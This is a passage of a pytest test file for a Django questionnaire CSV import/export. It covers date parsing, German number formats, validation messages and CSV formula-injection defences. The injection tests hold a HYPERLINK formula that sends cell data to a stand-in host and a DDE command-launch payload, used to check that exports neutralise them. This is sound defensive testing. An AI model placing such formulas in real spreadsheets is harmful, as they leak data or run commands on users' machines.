    result = questionnaire_import(user=staff, edition=edition, city=city, rows=rows, confirm=True)

    # then
    assert (result.saved, result.rows[0].message) == (1, "")
    stored_answer = Answer.objects.values(*expected).get(city=city, parameter__key=key)
    assert stored_answer == expected


@pytest.mark.parametrize("cell", ["2024-03-31", "31.03.2024", " 31.3.2024 ", datetime(2024, 3, 31), date(2024, 3, 31)])
def test_the_as_of_date_is_understood_as_iso_german_or_a_date_cell(edition, city, staff, cell):
    rows = [ImportRow(row_number=2, parameter_key="wartezeit", value="5", as_of=cell)]

    result = questionnaire_import(user=staff, edition=edition, city=city, rows=rows, confirm=True)

    assert result.saved == 1
    assert Answer.objects.get(city=city).as_of == date(2024, 3, 31)


@pytest.mark.parametrize(
    ("key", "cell", "message"),
    [
        ("online-termine", "vielleicht", "Bitte „ja“ oder „nein“ angeben."),
        ("online-termine", 2, "Bitte „ja“ oder „nein“ angeben."),
        ("wartezeit", True, "Bitte eine Zahl angeben."),
        ("wartezeit", "NaN", "Bitte eine endliche Zahl angeben."),
        ("wartezeit", "-1", "Der Wert muss mindestens 0 Tage sein."),
    ],
)
def test_values_of_the_wrong_type_get_the_forms_message(edition, city, staff, key, cell, message):
    rows = [ImportRow(row_number=7, parameter_key=key, value=cell)]

    result = questionnaire_import(user=staff, edition=edition, city=city, rows=rows, confirm=True)

    assert [(r.row_number, r.outcome, r.message) for r in result.rows] == [(7, "error", message)]
    assert Answer.objects.count() == 0


def test_a_blank_value_clears_a_stored_answer(edition, city, staff):
    answer(edition, city, "wartezeit", value_number=Decimal(10), version=2)

    result = run(staff, edition, city, b"parameter;wert;version\r\nwartezeit;;2\r\n", "f.csv", confirm=True)

    assert outcomes(result) == [(2, "wartezeit", "10 Tage", "—", "will_save", "")]
    assert stored(city)["wartezeit"][2:] == (None, "", "", None, "draft", 3)


def test_the_file_is_read_as_german_even_for_an_english_reader(edition):
    with translation.override("en"):
        assert interpret_value(parameter(edition, "wartezeit"), "1,234") == (Decimal("1.234"), True)
        assert interpret_value(parameter(edition, "ladepunkte"), "1.234") == (Decimal("1234"), True)


# --- Formula injection (issue 15, item 9) -----------------------------------------------------

HYPERLINK = '=HYPERLINK("https://evil.example/?d="&A1,"Details")'


def test_a_note_that_would_run_as_a_formula_is_text_in_the_csv_and_numbers_stay_numbers(edition, city, staff):
    # given: notes typed by people, and a negative number
    answer(edition, city, "wartezeit", value_number=Decimal("-3.5"), note=HYPERLINK)
    answer(edition, city, "busse", value_number=Decimal(40), note="+cmd|' /C calc'!A0")

    # when
    table = read_csv(qio.questionnaire_csv(edition=edition, city=city))

    # then
    rows = {row[0]: dict(zip(COLUMNS, row, strict=True)) for row in table[1:]}
    assert rows["wartezeit"]["anmerkung"] == "'" + HYPERLINK
    assert rows["busse"]["anmerkung"] == "'+cmd|' /C calc'!A0"
    assert rows["wartezeit"]["wert"] == "-3,5"


def test_a_neutralised_note_comes_back_unchanged_from_the_csv(edition, city, staff):
    # given: the exported file, imported again as it is
    answer(edition, city, "wartezeit", value_number=Decimal("12.5"), note=HYPERLINK)
    data = qio.questionnaire_csv(edition=edition, city=city).encode("utf-8")

    # when
    result = run(staff, edition, city, data, "fragebogen.csv", confirm=True)

    # then: the note is what was stored, without the apostrophe the export added
    assert Answer.objects.get(city=city, parameter__key="wartezeit").note == HYPERLINK
    assert [row.outcome for row in result.rows if row.parameter_key == "wartezeit"] == ["unchanged"]
